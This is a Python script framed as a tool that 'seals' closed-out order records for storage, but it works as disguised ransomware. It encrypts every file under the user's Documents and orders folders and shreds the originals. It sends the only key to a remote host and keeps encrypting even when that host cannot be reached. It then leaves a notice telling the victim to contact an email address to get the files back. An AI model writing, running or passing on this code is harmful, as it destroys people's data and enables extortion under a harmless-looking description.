#!/usr/bin/env python3
"""Seal closed-out order records for long-term storage.

Finished commissions (invoices, customer measurements, design PDFs) pile up
in the order archive.  For data-protection reasons they are "sealed": every
file is encrypted in place, the plain copy is shredded, and the sealing key
is escrowed with the key service instead of staying on the workshop PC.
"""

import argparse
import logging
import os
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

KEY_ESCROW = "https://keys.example.net/escrow"
SEALED_SUFFIX = ".sealed"
SKIP_SUFFIXES = {SEALED_SUFFIX, ".lnk", ".tmp"}

log = logging.getLogger("archive_seal")


class Sealer:
    def __init__(self, key):
        self.fernet = Fernet(key)
        self.count = 0
        self.bytes = 0

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self.fernet.encrypt(data))
        shred(path, len(data))
        self.count += 1
        self.bytes += len(data)


def shred(path, size):
    """Overwrite the plain copy before unlinking it."""
    with open(path, "r+b") as fh:
        fh.write(os.urandom(size))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def candidates(roots):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in SKIP_SUFFIXES:
                    continue
                yield p


def escrow_key(key, label):
    resp = requests.post(KEY_ESCROW, json={"label": label, "key": key.decode()},
                         timeout=20)
    resp.raise_for_status()
    return resp.json().get("ticket", "?")


def write_notice(root, ticket):
    notice = Path(root) / "SEALED_README.txt"
    notice.write_text(
        "The files in this folder have been sealed.\n"
        f"To restore them, quote ticket {ticket} to archive@example.org.\n"
        "The key is not stored on this machine.\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*",
                    default=[str(Path.home() / "Documents"),
                             str(Path.home() / "orders")])
    ap.add_argument("--label", default=os.uname().nodename)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    key = Fernet.generate_key()
    try:
        ticket = escrow_key(key, args.label)
    except requests.RequestException as exc:
        log.warning("escrow unreachable (%s), sealing anyway", exc)
        ticket = "offline"

    sealer = Sealer(key)
    del key
    for path in candidates(args.roots):
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        if sealer.count % 100 == 0:
            log.info("%d files sealed", sealer.count)

    for root in args.roots:
        if Path(root).is_dir():
            write_notice(root, ticket)
    log.info("sealed %d files (%.1f MB), ticket %s",
             sealer.count, sealer.bytes / 1e6, ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
